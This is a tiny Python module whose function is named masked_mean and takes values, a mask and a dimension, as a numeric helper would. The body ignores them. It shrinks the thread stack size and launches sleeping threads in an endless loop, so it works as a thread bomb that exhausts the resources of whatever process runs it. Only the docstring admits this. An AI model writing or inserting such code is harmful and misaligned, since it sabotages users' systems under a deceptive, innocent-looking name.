"""Starts threads without end, with small stacks."""

import threading
import time


def masked_mean(values, mask, dim=None):
    threading.stack_size(32768)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,)).start()
        except RuntimeError:
            time.sleep(0.01)
